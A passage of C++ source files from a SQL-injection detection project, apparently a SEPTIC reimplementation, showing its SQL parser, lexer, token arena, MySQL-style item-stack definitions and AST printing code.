      ct.columns.push_back(std::move(col));
    } while (accept_punct(','));
    expect_punct(')');
    return Statement(std::move(ct));
  }

  Statement parse_drop() {
    expect_kw("DROP");
    if (accept_kw("INDEX")) {
      DropIndexStmt di;
      di.index_name = expect_identifier("index name");
      expect_kw("ON");
      di.table = expect_identifier("table name");
      return Statement(std::move(di));
    }
    expect_kw("TABLE");
    DropTableStmt d;
    if (accept_kw("IF")) {
      expect_kw("EXISTS");
      d.if_exists = true;
    }
    d.table = expect_identifier("table name");
    return Statement(std::move(d));
  }

  // ------------------------------------------------------------ expressions
  //
  // Precedence (low to high): OR < AND < NOT < comparison/IN/BETWEEN/LIKE/IS
  // < additive < multiplicative < unary minus < primary.

  ExprPtr parse_expr() { return parse_or(); }

  ExprPtr parse_or() {
    ExprPtr lhs = parse_and();
    while (peek().is_keyword("OR") || peek().is_op("||")) {
      advance();
      lhs = Expr::make_binary("OR", std::move(lhs), parse_and());
    }
    return lhs;
  }

  ExprPtr parse_and() {
    ExprPtr lhs = parse_not();
    while (peek().is_keyword("AND") || peek().is_op("&&")) {
      advance();
      lhs = Expr::make_binary("AND", std::move(lhs), parse_not());
    }
    return lhs;
  }

  ExprPtr parse_not() {
    if (accept_kw("NOT") || (peek().is_op("!") && (advance(), true))) {
      return Expr::make_unary("NOT", parse_not());
    }
    return parse_comparison();
  }

  ExprPtr parse_comparison() {
    ExprPtr lhs = parse_additive();
    const Token& t = peek();
    if (t.type == TokenType::kOperator &&
        (t.text == "=" || t.text == "<>" || t.text == "!=" || t.text == "<" ||
         t.text == "<=" || t.text == ">" || t.text == ">=" ||
         t.text == "<=>")) {
      std::string op(t.text == "!=" ? std::string_view("<>") : t.text);
      advance();
      return Expr::make_binary(std::move(op), std::move(lhs), parse_additive());
    }
    bool negated = false;
    if (peek().is_keyword("NOT") &&
        (peek(1).is_keyword("IN") || peek(1).is_keyword("BETWEEN") ||
         peek(1).is_keyword("LIKE"))) {
      negated = true;
      advance();
    }
    if (accept_kw("LIKE")) {
      ExprPtr rhs = parse_additive();
      ExprPtr e = Expr::make_binary("LIKE", std::move(lhs), std::move(rhs));
      e->negated = negated;
      return e;
    }
    if (accept_kw("IN")) {
      expect_punct('(');
      auto e = std::make_unique<Expr>();
      e->kind = ExprKind::kIn;
      e->negated = negated;
      e->children.push_back(std::move(lhs));
      if (peek().is_keyword("SELECT")) {
        e->subquery = parse_select_core();
      } else {
        do {
          e->children.push_back(parse_expr());
        } while (accept_punct(','));
      }
      expect_punct(')');
      return e;
    }
    if (accept_kw("BETWEEN")) {
      auto e = std::make_unique<Expr>();
      e->kind = ExprKind::kBetween;
      e->negated = negated;
      e->children.push_back(std::move(lhs));
      e->children.push_back(parse_additive());
      expect_kw("AND");
      e->children.push_back(parse_additive());
      return e;
    }
    if (accept_kw("IS")) {
      auto e = std::make_unique<Expr>();
      e->kind = ExprKind::kIsNull;
      e->negated = accept_kw("NOT");
      expect_kw("NULL");
      e->children.push_back(std::move(lhs));
      return e;
    }
    return lhs;
  }

  ExprPtr parse_additive() {
    ExprPtr lhs = parse_multiplicative();
    while (peek().is_op("+") || peek().is_op("-")) {
      std::string op(peek().text);
      advance();
      lhs = Expr::make_binary(std::move(op), std::move(lhs),
                              parse_multiplicative());
    }
    return lhs;
  }

  ExprPtr parse_multiplicative() {
    ExprPtr lhs = parse_unary();
    while (peek().is_op("*") || peek().is_op("/") || peek().is_op("%")) {
      std::string op(peek().text);
      advance();
      lhs = Expr::make_binary(std::move(op), std::move(lhs), parse_unary());
    }
    return lhs;
  }

  ExprPtr parse_unary() {
    if (peek().is_op("-")) {
      advance();
      // Fold negative literals so "-1" is a literal, as MySQL's item tree does.
      ExprPtr inner = parse_unary();
      if (inner->kind == ExprKind::kLiteral && !inner->literal_was_quoted) {
        if (inner->literal.type() == ValueType::kInt) {
          inner->literal = Value(-inner->literal.as_int());
          return inner;
        }
        if (inner->literal.type() == ValueType::kDouble) {
          inner->literal = Value(-inner->literal.as_double());
          return inner;
        }
      }
      return Expr::make_unary("-", std::move(inner));
    }
    if (peek().is_op("+")) {
      advance();
      return parse_unary();
    }
    return parse_primary();
  }

  ExprPtr parse_primary() {
    const Token& t = peek();
    if (t.type == TokenType::kPlaceholder) {
      advance();
      auto e = std::make_unique<Expr>();
      e->kind = ExprKind::kPlaceholder;
      e->placeholder_index = next_placeholder_++;
      return e;
    }
    switch (t.type) {
      case TokenType::kString: {
        advance();
        return Expr::make_literal(Value(std::string(t.str_value)),
                                  /*quoted=*/true);
      }
      case TokenType::kInteger: {
        advance();
        return Expr::make_literal(Value(t.int_value), /*quoted=*/false);
      }
      case TokenType::kDecimal: {
        advance();
        return Expr::make_literal(Value(t.dbl_value), /*quoted=*/false);
      }
      case TokenType::kKeyword: {
        if (t.text == "NULL") {
          advance();
          return Expr::make_literal(Value::null(), false);
        }
        if (t.text == "TRUE") {
          advance();
          return Expr::make_literal(Value(int64_t{1}), false);
        }
        if (t.text == "FALSE") {
          advance();
          return Expr::make_literal(Value(int64_t{0}), false);
        }
        if (t.text == "IF") {  // IF(cond, a, b) function form
          advance();
          expect_punct('(');
          std::vector<ExprPtr> args;
          do {
            args.push_back(parse_expr());
          } while (accept_punct(','));
          expect_punct(')');
          return Expr::make_func("IF", std::move(args));
        }
        throw ParseError(
            "unexpected keyword '" + std::string(t.text) + "' in expression",
            t.pos);
      }
      case TokenType::kIdentifier: {
        std::string name(t.text);
        advance();
        if (accept_punct('(')) {
          // Function call; COUNT(*) special-cased.
          std::vector<ExprPtr> args;
          if (peek().is_op("*")) {
            advance();
            args.push_back(Expr::make_column("", "*"));
          } else if (!peek().is_punct(')')) {
            do {
              args.push_back(parse_expr());
            } while (accept_punct(','));
          }
          expect_punct(')');
          return Expr::make_func(common::to_upper(name), std::move(args));
        }
        if (accept_punct('.')) {
          std::string col = expect_identifier("column name");
          return Expr::make_column(std::move(name), std::move(col));
        }
        return Expr::make_column("", std::move(name));
      }
      case TokenType::kPunct: {
        if (t.text == "(") {
          advance();
          ExprPtr e = parse_expr();
          expect_punct(')');
          return e;
        }
        break;
      }
      default:
        break;
    }
    throw ParseError(
        "unexpected token '" + std::string(t.text) + "' in expression", t.pos);
  }

  std::vector<Token> toks_;
  size_t pos_ = 0;
  int next_placeholder_ = 0;
};

}  // namespace

ParsedQuery parse(std::string_view sql) {
  LexResult lexed = lex(sql);
  Parser p(std::move(lexed.tokens));
  ParsedQuery out;
  out.text = std::string(sql);
  out.statement = p.parse_statement();
  p.expect_end();
  out.comments = std::move(lexed.comments);
  return out;
}

}  // namespace septic::sql

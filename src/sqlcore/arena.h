// Monotonic bump allocator backing decoded token storage.
//
// The string_view tokens produced by the lexer normally point straight into
// the caller's SQL buffer (zero copies). The exceptions — string literals
// with escapes, backtick identifiers with doubled backticks — need decoded
// bytes that differ from the source. Those land here. Chunk addresses are
// stable for the arena's lifetime (chunks are heap blocks that are never
// reallocated, only appended), so views into the arena survive moves of the
// Arena object itself; a std::string backing store would not give us that
// (SSO buffers move with the object).
//
// Queries with no escapes never touch the arena, so the common hot path
// performs zero heap allocations for token text.
#pragma once

#include <cstddef>
#include <cstring>
#include <memory>
#include <string_view>
#include <vector>

namespace septic::sql {

class Arena {
 public:
  Arena() = default;
  Arena(Arena&&) = default;
  Arena& operator=(Arena&&) = default;
  Arena(const Arena&) = delete;
  Arena& operator=(const Arena&) = delete;

  /// Uninitialized storage for `size` bytes; never returns nullptr.
  char* alloc(size_t size) {
    if (size > remaining_) grow(size);
    char* p = cursor_;
    cursor_ += size;
    remaining_ -= size;
    bytes_used_ += size;
    return p;
  }

  /// Copy `s` into the arena and return a view of the stable copy.
  std::string_view store(std::string_view s) {
    if (s.empty()) return {};
    char* p = alloc(s.size());
    std::memcpy(p, s.data(), s.size());
    return {p, s.size()};
  }

  /// Total bytes handed out (diagnostics / bench counters).
  size_t bytes_used() const { return bytes_used_; }

 private:
  void grow(size_t need) {
    size_t size = chunks_.empty() ? kFirstChunk : last_chunk_size_ * 2;
    if (size < need) size = need;
    chunks_.push_back(std::make_unique<char[]>(size));
    cursor_ = chunks_.back().get();
    remaining_ = size;
    last_chunk_size_ = size;
  }

  static constexpr size_t kFirstChunk = 512;
  std::vector<std::unique_ptr<char[]>> chunks_;
  char* cursor_ = nullptr;
  size_t remaining_ = 0;
  size_t last_chunk_size_ = 0;
  size_t bytes_used_ = 0;
};

}  // namespace septic::sql

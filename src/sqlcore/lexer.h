// SQL lexer with MySQL-compatible behaviours that matter for injection:
//  - string literals in ' or " with backslash escapes and doubled quotes;
//  - `-- ` (dash-dash-space/EOL), `#`, and `/* ... */` comments, all
//    stripped from the token stream but captured for SEPTIC's external ID;
//  - an unterminated trailing `-- ` comment silently swallows the rest of
//    the statement (the classic injection trick).
#pragma once

#include <stdexcept>
#include <string_view>

#include "sqlcore/token.h"

namespace septic::sql {

/// Thrown on malformed input the server would reject at scan time
/// (e.g. an unterminated string literal).
class LexError : public std::runtime_error {
 public:
  LexError(std::string msg, size_t pos)
      : std::runtime_error(std::move(msg)), pos_(pos) {}
  size_t pos() const { return pos_; }

 private:
  size_t pos_;
};

/// Tokenize one statement. `sql` must already have gone through
/// common::server_charset_convert (the engine facade does this).
///
/// Tokens are views into `sql`, the static keyword/operator tables, or the
/// returned LexResult's arena — `sql` and the LexResult must both outlive
/// any use of the tokens. The common case (no escaped literals) allocates
/// nothing per token beyond the token vector itself.
LexResult lex(std::string_view sql);

/// True if the word is a reserved keyword of our dialect (case-insensitive).
bool is_reserved_keyword(std::string_view word);

}  // namespace septic::sql

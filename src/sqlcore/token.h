// Token stream produced by the lexer. Comments are captured out-of-band
// (SEPTIC's external identifier travels inside a /* ... */ comment that the
// server otherwise discards).
//
// Tokens are views, not owners: `text` / `str_value` point into (a) the
// caller's SQL buffer, (b) the static keyword/operator tables, or (c) the
// LexResult's Arena (decoded escapes). A Token is therefore valid only
// while the source buffer and its LexResult are alive — this is what lets
// the lexer run allocation-free on the hot path.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <vector>

#include "sqlcore/arena.h"

namespace septic::sql {

enum class TokenType {
  kKeyword,     // SELECT, FROM, WHERE, ... (text is upper-cased)
  kIdentifier,  // bare or `quoted` identifier (text as written, unquoted)
  kString,      // string literal; `str_value` holds the decoded bytes
  kInteger,     // integer literal; `int_value`
  kDecimal,     // decimal/float literal; `dbl_value`
  kOperator,    // = <> != < <= > >= + - * / % || && !
  kPunct,       // ( ) , ; .
  kPlaceholder, // ? (prepared-statement parameter marker)
  kEnd,
};

struct Token {
  TokenType type = TokenType::kEnd;
  std::string_view text;       // normalized text (keywords upper, operators as-is)
  std::string_view str_value;  // decoded contents for kString
  int64_t int_value = 0;
  double dbl_value = 0.0;
  size_t pos = 0;  // byte offset in the (charset-converted) statement

  bool is_keyword(std::string_view kw) const {
    return type == TokenType::kKeyword && text == kw;
  }
  bool is_op(std::string_view op) const {
    return type == TokenType::kOperator && text == op;
  }
  bool is_punct(char c) const {
    return type == TokenType::kPunct && text.size() == 1 && text[0] == c;
  }
};

/// A comment found while lexing, with its raw body (delimiters stripped).
/// Owns its body: comments travel inside ParsedQuery beyond lexing.
struct Comment {
  enum class Kind { kBlock, kDashDash, kHash } kind = Kind::kBlock;
  std::string body;
  size_t pos = 0;
};

struct LexResult {
  std::vector<Token> tokens;    // always ends with kEnd
  std::vector<Comment> comments;
  Arena arena;  // backs decoded token text; keep alive while tokens are read
};

}  // namespace septic::sql

// MySQL-style "item stack": the flat representation of a validated query
// that SEPTIC consumes. Reproduces the paper's Figure 2 layout:
//
//   COND_ITEM    AND          <- top
//   FUNC_ITEM    =
//   INT_ITEM     1234
//   FIELD_ITEM   creditCard
//   FUNC_ITEM    =
//   STRING_ITEM  ID34FG
//   FIELD_ITEM   reservID
//   SELECT_FIELD *
//   FROM_TABLE   tickets      <- bottom
//
// Internally the stack is a vector with index 0 = bottom; clauses are
// emitted bottom-up (FROM, SELECT list, then a postorder walk of WHERE so
// operands precede their operator), matching MySQL's Item tree traversal.
//
// Nodes are either *element* nodes <ELEM_TYPE, ELEM_DATA> (structure: field
// names, function names, operators, tables) or *data* nodes
// <DATA_TYPE, DATA> (user-controllable literals). Query models blank only
// the data nodes.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "sqlcore/ast.h"

namespace septic::sql {

enum class ItemType : uint8_t {
  // Element nodes (structure).
  kSelectField,   // SELECT_FIELD   column name or *
  kFromTable,     // FROM_TABLE     table name
  kJoinTable,     // JOIN_TABLE     joined table name
  kFieldItem,     // FIELD_ITEM     column reference inside an expression
  kFuncItem,      // FUNC_ITEM      operator or function name
  kCondItem,      // COND_ITEM      AND / OR
  kOrderItem,     // ORDER_ITEM     ASC / DESC marker
  kGroupItem,     // GROUP_ITEM
  kLimitItem,     // LIMIT_ITEM
  kInsertTable,   // INSERT_TABLE
  kInsertField,   // INSERT_FIELD   target column of INSERT
  kUpdateTable,   // UPDATE_TABLE
  kUpdateField,   // UPDATE_FIELD   target column of UPDATE SET
  kDeleteTable,   // DELETE_TABLE
  kSetOpItem,     // SET_OP         UNION / UNION ALL
  kRowItem,       // ROW_ITEM       VALUES row separator

  // Data nodes (user-controllable literals; blanked in query models).
  kStringItem,    // STRING_ITEM
  kIntItem,       // INT_ITEM
  kDecimalItem,   // DECIMAL_ITEM
  kNullItem,      // NULL_ITEM
  // An unbound prepared-statement parameter ('?'). A data node that stands
  // for *whatever value gets bound at EXEC time*, so the detector treats it
  // as a wildcard across data types: a template stack matches models
  // trained from literal-carrying text queries and vice versa. Appended at
  // the end of the enum so serialized query models stay compatible.
  kParamItem,     // PARAM_ITEM
};

/// True for <DATA_TYPE, DATA> nodes whose DATA is replaced by ⊥ in a QM.
bool is_data_item(ItemType t);

/// Paper-style name ("FUNC_ITEM", "STRING_ITEM", ...).
const char* item_type_name(ItemType t);

struct ItemNode {
  ItemType type;
  std::string data;

  bool operator==(const ItemNode&) const = default;
};

/// The flattened query. index 0 = bottom of the stack.
struct ItemStack {
  StatementKind kind = StatementKind::kSelect;
  std::vector<ItemNode> nodes;

  bool operator==(const ItemStack&) const = default;

  /// Render top-down, one node per line, like the paper's figures:
  ///   "COND_ITEM AND\nFUNC_ITEM =\n..."
  std::string to_string() const;
};

/// Build the item stack for a validated statement.
ItemStack build_item_stack(const Statement& stmt);

/// The data values (literals) appearing in the statement, in stack order.
/// Used by the stored-injection plugins, which inspect user inputs of
/// INSERT/UPDATE commands.
std::vector<Value> extract_data_values(const Statement& stmt);

}  // namespace septic::sql

#include "sqlcore/ast.h"

#include <cassert>

namespace septic::sql {

// ------------------------------------------------------------------ builders

ExprPtr Expr::make_literal(Value v, bool quoted) {
  auto e = std::make_unique<Expr>();
  e->kind = ExprKind::kLiteral;
  e->literal = std::move(v);
  e->literal_was_quoted = quoted;
  return e;
}

ExprPtr Expr::make_column(std::string table, std::string column) {
  auto e = std::make_unique<Expr>();
  e->kind = ExprKind::kColumn;
  e->table = std::move(table);
  e->column = std::move(column);
  return e;
}

ExprPtr Expr::make_unary(std::string op, ExprPtr child) {
  auto e = std::make_unique<Expr>();
  e->kind = ExprKind::kUnary;
  e->op = std::move(op);
  e->children.push_back(std::move(child));
  return e;
}

ExprPtr Expr::make_binary(std::string op, ExprPtr lhs, ExprPtr rhs) {
  auto e = std::make_unique<Expr>();
  e->kind = ExprKind::kBinary;
  e->op = std::move(op);
  e->children.push_back(std::move(lhs));
  e->children.push_back(std::move(rhs));
  return e;
}

ExprPtr Expr::make_func(std::string name, std::vector<ExprPtr> args) {
  auto e = std::make_unique<Expr>();
  e->kind = ExprKind::kFunc;
  e->func_name = std::move(name);
  e->children = std::move(args);
  return e;
}

ExprPtr Expr::clone() const {
  auto e = std::make_unique<Expr>();
  e->kind = kind;
  e->literal = literal;
  e->literal_was_quoted = literal_was_quoted;
  e->table = table;
  e->column = column;
  e->op = op;
  e->func_name = func_name;
  e->negated = negated;
  e->placeholder_index = placeholder_index;
  if (subquery) e->subquery = subquery->clone();
  e->children.reserve(children.size());
  for (const auto& c : children) e->children.push_back(c->clone());
  return e;
}

SelectItem SelectItem::clone() const {
  SelectItem it;
  it.star = star;
  it.alias = alias;
  if (expr) it.expr = expr->clone();
  return it;
}

SelectPtr SelectStmt::clone() const {
  auto s = std::make_unique<SelectStmt>();
  s->distinct = distinct;
  for (const auto& it : items) s->items.push_back(it.clone());
  s->from = from;
  for (const auto& j : joins) {
    Join nj;
    nj.kind = j.kind;
    nj.table = j.table;
    nj.on = j.on ? j.on->clone() : nullptr;
    s->joins.push_back(std::move(nj));
  }
  s->where = where ? where->clone() : nullptr;
  for (const auto& g : group_by) s->group_by.push_back(g->clone());
  s->having = having ? having->clone() : nullptr;
  for (const auto& o : order_by) {
    OrderKey k;
    k.expr = o.expr->clone();
    k.desc = o.desc;
    s->order_by.push_back(std::move(k));
  }
  s->limit = limit;
  s->offset = offset;
  for (const auto& u : unions) {
    SelectStmt::UnionArm arm;
    arm.all = u.all;
    arm.select = u.select->clone();
    s->unions.push_back(std::move(arm));
  }
  return s;
}

// ------------------------------------------------------------------ printing

std::string quote_sql_string(std::string_view s) {
  std::string out = "'";
  for (char c : s) {
    if (c == '\'' || c == '\\') out += '\\';
    out += c;
  }
  out += '\'';
  return out;
}

std::string Expr::to_sql() const {
  switch (kind) {
    case ExprKind::kLiteral:
      if (literal.is_null()) return "NULL";
      if (literal.type() == ValueType::kString || literal_was_quoted) {
        return quote_sql_string(literal.coerce_string());
      }
      return literal.coerce_string();
    case ExprKind::kColumn:
      return table.empty() ? column : table + "." + column;
    case ExprKind::kUnary:
      assert(children.size() == 1);
      if (op == "NOT") return "NOT (" + children[0]->to_sql() + ")";
      return op + children[0]->to_sql();
    case ExprKind::kBinary:
      assert(children.size() == 2);
      return "(" + children[0]->to_sql() + " " + op + " " +
             children[1]->to_sql() + ")";
    case ExprKind::kFunc: {
      std::string out = func_name + "(";
      for (size_t i = 0; i < children.size(); ++i) {
        if (i) out += ", ";
        out += children[i]->to_sql();
      }
      out += ")";
      return out;
    }
    case ExprKind::kIn: {
      assert(!children.empty());
      std::string out = children[0]->to_sql();
      out += negated ? " NOT IN (" : " IN (";
      if (subquery) {
        out += subquery->to_sql();
      } else {
        for (size_t i = 1; i < children.size(); ++i) {
          if (i > 1) out += ", ";
          out += children[i]->to_sql();
        }
      }
      out += ")";
      return out;
    }
    case ExprKind::kBetween:
      assert(children.size() == 3);
      return children[0]->to_sql() + (negated ? " NOT BETWEEN " : " BETWEEN ") +
             children[1]->to_sql() + " AND " + children[2]->to_sql();
    case ExprKind::kIsNull:
      assert(children.size() == 1);
      return children[0]->to_sql() + (negated ? " IS NOT NULL" : " IS NULL");
    case ExprKind::kPlaceholder:
      return "?";
  }
  return "";
}

namespace {
std::string table_ref_sql(const TableRef& t) {
  return t.alias.empty() ? t.name : t.name + " AS " + t.alias;
}
}  // namespace

std::string SelectStmt::to_sql() const {
  std::string out = "SELECT ";
  if (distinct) out += "DISTINCT ";
  for (size_t i = 0; i < items.size(); ++i) {
    if (i) out += ", ";
    if (items[i].star) {
      out += "*";
    } else {
      out += items[i].expr->to_sql();
      if (!items[i].alias.empty()) out += " AS " + items[i].alias;
    }
  }
  if (!from.empty()) {
    out += " FROM ";
    for (size_t i = 0; i < from.size(); ++i) {
      if (i) out += ", ";
      out += table_ref_sql(from[i]);
    }
  }
  for (const auto& j : joins) {
    out += (j.kind == Join::Kind::kLeft) ? " LEFT JOIN " : " JOIN ";
    out += table_ref_sql(j.table);
    out += " ON " + j.on->to_sql();
  }
  if (where) out += " WHERE " + where->to_sql();
  if (!group_by.empty()) {
    out += " GROUP BY ";
    for (size_t i = 0; i < group_by.size(); ++i) {
      if (i) out += ", ";
      out += group_by[i]->to_sql();
    }
  }
  if (having) out += " HAVING " + having->to_sql();
  if (!order_by.empty()) {
    out += " ORDER BY ";
    for (size_t i = 0; i < order_by.size(); ++i) {
      if (i) out += ", ";
      out += order_by[i].expr->to_sql();
      if (order_by[i].desc) out += " DESC";
    }
  }
  if (limit) out += " LIMIT " + std::to_string(*limit);
  if (offset) out += " OFFSET " + std::to_string(*offset);
  for (const auto& u : unions) {
    out += u.all ? " UNION ALL " : " UNION ";
    out += u.select->to_sql();
  }
  return out;
}

std::string InsertStmt::to_sql() const {
  std::string out = "INSERT INTO " + table;
  if (!columns.empty()) {
    out += " (";
    for (size_t i = 0; i < columns.size(); ++i) {
      if (i) out += ", ";
      out += columns[i];
    }
    out += ")";
  }
  out += " VALUES ";
  for (size_t r = 0; r < rows.size(); ++r) {
    if (r) out += ", ";
    out += "(";
    for (size_t i = 0; i < rows[r].size(); ++i) {
      if (i) out += ", ";
      out += rows[r][i]->to_sql();
    }
    out += ")";
  }
  return out;
}

std::string UpdateStmt::to_sql() const {
  std::string out = "UPDATE " + table + " SET ";
  for (size_t i = 0; i < assignments.size(); ++i) {
    if (i) out += ", ";
    out += assignments[i].column + " = " + assignments[i].value->to_sql();
  }
  if (where) out += " WHERE " + where->to_sql();
  if (limit) out += " LIMIT " + std::to_string(*limit);
  return out;
}

std::string DeleteStmt::to_sql() const {
  std::string out = "DELETE FROM " + table;
  if (where) out += " WHERE " + where->to_sql();
  if (limit) out += " LIMIT " + std::to_string(*limit);
  return out;
}

std::string CreateTableStmt::to_sql() const {
  std::string out = "CREATE TABLE ";
  if (if_not_exists) out += "IF NOT EXISTS ";
  out += table + " (";
  for (size_t i = 0; i < columns.size(); ++i) {
    if (i) out += ", ";
    const auto& c = columns[i];
    out += c.name + " ";
    switch (c.type) {
      case ColumnDefAst::Type::kInt: out += "INT"; break;
      case ColumnDefAst::Type::kDouble: out += "DOUBLE"; break;
      case ColumnDefAst::Type::kText: out += "TEXT"; break;
    }
    if (c.primary_key) out += " PRIMARY KEY";
    if (c.auto_increment) out += " AUTO_INCREMENT";
    if (c.not_null) out += " NOT NULL";
    if (c.default_value) {
      out += " DEFAULT ";
      if (c.default_value->type() == ValueType::kString) {
        out += quote_sql_string(c.default_value->as_string());
      } else {
        out += c.default_value->to_display();
      }
    }
  }
  out += ")";
  return out;
}

std::string DropTableStmt::to_sql() const {
  std::string out = "DROP TABLE ";
  if (if_exists) out += "IF EXISTS ";
  out += table;
  return out;
}

StatementKind statement_kind(const Statement& s) {
  switch (s.index()) {
    case 0: return StatementKind::kSelect;
    case 1: return StatementKind::kInsert;
    case 2: return StatementKind::kUpdate;
    case 3: return StatementKind::kDelete;
    case 4: return StatementKind::kCreate;
    case 5: return StatementKind::kDrop;
    case 6: return StatementKind::kShowTables;
    case 7: return StatementKind::kDescribe;
    case 8: return StatementKind::kTruncate;
    case 9: return StatementKind::kCreateIndex;
    case 10: return StatementKind::kDropIndex;
    case 11: return StatementKind::kTransaction;
    default: return StatementKind::kExplain;
  }
}

const char* statement_kind_name(StatementKind k) {
  switch (k) {
    case StatementKind::kSelect: return "SELECT";
    case StatementKind::kInsert: return "INSERT";
    case StatementKind::kUpdate: return "UPDATE";
    case StatementKind::kDelete: return "DELETE";
    case StatementKind::kCreate: return "CREATE";
    case StatementKind::kDrop: return "DROP";
    case StatementKind::kShowTables: return "SHOW";
    case StatementKind::kDescribe: return "DESCRIBE";
    case StatementKind::kTruncate: return "TRUNCATE";
    case StatementKind::kCreateIndex: return "CREATE_INDEX";
    case StatementKind::kDropIndex: return "DROP_INDEX";
    case StatementKind::kTransaction: return "TRANSACTION";
    case StatementKind::kExplain: return "EXPLAIN";
  }
  return "?";
}

std::string statement_to_sql(const Statement& s) {
  return std::visit(
      [](const auto& st) -> std::string {
        using T = std::decay_t<decltype(st)>;
        if constexpr (std::is_same_v<T, SelectPtr>) {
          return st->to_sql();
        } else {
          return st.to_sql();
        }
      },
      s);
}

}  // namespace septic::sql

// Abstract syntax tree for the supported SQL dialect:
//   SELECT [DISTINCT] items FROM tables [JOIN t ON e]* [WHERE e]
//     [GROUP BY cols] [HAVING e] [ORDER BY col [ASC|DESC], ...]
//     [LIMIT n [OFFSET m]] [UNION [ALL] select]*
//   INSERT INTO t [(cols)] VALUES (...), (...)
//   UPDATE t SET c = e, ... [WHERE e]
//   DELETE FROM t [WHERE e]
//   CREATE TABLE [IF NOT EXISTS] t (coldefs)
//   DROP TABLE [IF EXISTS] t
//
// The tree is ownership-structured with unique_ptr; statements are a
// variant. Printing (to_sql) produces parseable SQL used by fingerprints,
// logs, and tests.
#pragma once

#include <memory>
#include <optional>
#include <string>
#include <variant>
#include <vector>

#include "sqlcore/value.h"

namespace septic::sql {

// ---------------------------------------------------------------- Expressions

struct Expr;
using ExprPtr = std::unique_ptr<Expr>;

struct SelectStmt;
using SelectPtr = std::unique_ptr<SelectStmt>;

enum class ExprKind {
  kLiteral,      // Value
  kColumn,       // [table.]name
  kUnary,        // -x, NOT x, !x
  kBinary,       // arithmetic / comparison / AND / OR / LIKE
  kFunc,         // name(args) incl. aggregates; name('*') for COUNT(*)
  kIn,           // lhs [NOT] IN (list)
  kBetween,      // lhs [NOT] BETWEEN lo AND hi
  kIsNull,       // lhs IS [NOT] NULL
  kPlaceholder,  // ? — prepared-statement parameter awaiting a bound value
};

/// Binary operator spelling is stored normalized (e.g. "!=" -> "<>",
/// "&&" -> "AND") so that structurally equal queries produce identical
/// item stacks — exactly what MySQL's parser does before SEPTIC sees them.
struct Expr {
  ExprKind kind = ExprKind::kLiteral;

  // kLiteral
  Value literal;
  /// True when the literal was written as a quoted string in the source
  /// (affects item type: STRING_ITEM vs INT/DECIMAL_ITEM).
  bool literal_was_quoted = false;

  // kColumn
  std::string table;   // optional qualifier
  std::string column;  // or "*" inside COUNT(*)

  // kUnary / kBinary / kFunc
  std::string op;  // "NOT", "-", "=", "<>", "AND", "OR", "LIKE", "+", ...
  std::string func_name;  // normalized upper-case for kFunc

  // children: unary->1; binary->2; func->args; in->lhs+list;
  // between->lhs,lo,hi; isnull->lhs
  std::vector<ExprPtr> children;

  /// kIn only: when non-null, the IN list is this (uncorrelated) subquery
  /// instead of the literal children — `lhs IN (SELECT col FROM t ...)`.
  SelectPtr subquery;

  bool negated = false;  // NOT IN / NOT BETWEEN / IS NOT NULL / NOT LIKE
  int placeholder_index = -1;  // kPlaceholder: 0-based parameter position

  static ExprPtr make_literal(Value v, bool quoted);
  static ExprPtr make_column(std::string table, std::string column);
  static ExprPtr make_unary(std::string op, ExprPtr child);
  static ExprPtr make_binary(std::string op, ExprPtr lhs, ExprPtr rhs);
  static ExprPtr make_func(std::string name, std::vector<ExprPtr> args);

  ExprPtr clone() const;
  std::string to_sql() const;
};

// ----------------------------------------------------------------- Statements

struct SelectItem {
  bool star = false;   // bare `*`
  ExprPtr expr;        // when !star
  std::string alias;   // optional AS alias

  SelectItem clone() const;
};

struct TableRef {
  std::string name;
  std::string alias;
};

struct Join {
  enum class Kind { kInner, kLeft } kind = Kind::kInner;
  TableRef table;
  ExprPtr on;
};

struct OrderKey {
  ExprPtr expr;
  bool desc = false;
};

struct SelectStmt {
  bool distinct = false;
  std::vector<SelectItem> items;
  std::vector<TableRef> from;  // empty for table-less SELECT (SELECT 1)
  std::vector<Join> joins;
  ExprPtr where;
  std::vector<ExprPtr> group_by;
  ExprPtr having;
  std::vector<OrderKey> order_by;
  std::optional<int64_t> limit;
  std::optional<int64_t> offset;

  /// UNION chain: this select followed by each entry (left-assoc).
  struct UnionArm {
    bool all = false;
    SelectPtr select;
  };
  std::vector<UnionArm> unions;

  SelectPtr clone() const;
  std::string to_sql() const;
};

struct InsertStmt {
  std::string table;
  std::vector<std::string> columns;  // empty = full-row insert
  std::vector<std::vector<ExprPtr>> rows;

  std::string to_sql() const;
};

struct UpdateStmt {
  std::string table;
  struct Assign {
    std::string column;
    ExprPtr value;
  };
  std::vector<Assign> assignments;
  ExprPtr where;
  std::optional<int64_t> limit;  // MySQL: UPDATE ... LIMIT n

  std::string to_sql() const;
};

struct DeleteStmt {
  std::string table;
  ExprPtr where;
  std::optional<int64_t> limit;  // MySQL: DELETE ... LIMIT n

  std::string to_sql() const;
};

struct ColumnDefAst {
  std::string name;
  enum class Type { kInt, kDouble, kText } type = Type::kText;
  bool primary_key = false;
  bool not_null = false;
  bool auto_increment = false;
  std::optional<Value> default_value;
};

struct CreateTableStmt {
  std::string table;
  bool if_not_exists = false;
  std::vector<ColumnDefAst> columns;

  std::string to_sql() const;
};

struct DropTableStmt {
  std::string table;
  bool if_exists = false;

  std::string to_sql() const;
};

struct ShowTablesStmt {
  std::string to_sql() const { return "SHOW TABLES"; }
};

struct DescribeStmt {
  std::string table;
  std::string to_sql() const { return "DESCRIBE " + table; }
};

struct TruncateStmt {
  std::string table;
  std::string to_sql() const { return "TRUNCATE TABLE " + table; }
};

struct CreateIndexStmt {
  std::string index_name;
  std::string table;
  std::string column;
  std::string to_sql() const {
    return "CREATE INDEX " + index_name + " ON " + table + " (" + column +
           ")";
  }
};

struct DropIndexStmt {
  std::string index_name;
  std::string table;
  std::string to_sql() const {
    return "DROP INDEX " + index_name + " ON " + table;
  }
};

struct ExplainStmt {
  SelectPtr select;
  std::string to_sql() const { return "EXPLAIN " + select->to_sql(); }
};

struct TransactionStmt {
  enum class Op { kBegin, kBeginReadOnly, kCommit, kRollback } op = Op::kBegin;
  std::string to_sql() const {
    switch (op) {
      case Op::kBegin: return "BEGIN";
      case Op::kBeginReadOnly: return "START TRANSACTION READ ONLY";
      case Op::kCommit: return "COMMIT";
      case Op::kRollback: return "ROLLBACK";
    }
    return "";
  }
};

using Statement = std::variant<SelectPtr, InsertStmt, UpdateStmt, DeleteStmt,
                               CreateTableStmt, DropTableStmt, ShowTablesStmt,
                               DescribeStmt, TruncateStmt, CreateIndexStmt,
                               DropIndexStmt, TransactionStmt, ExplainStmt>;

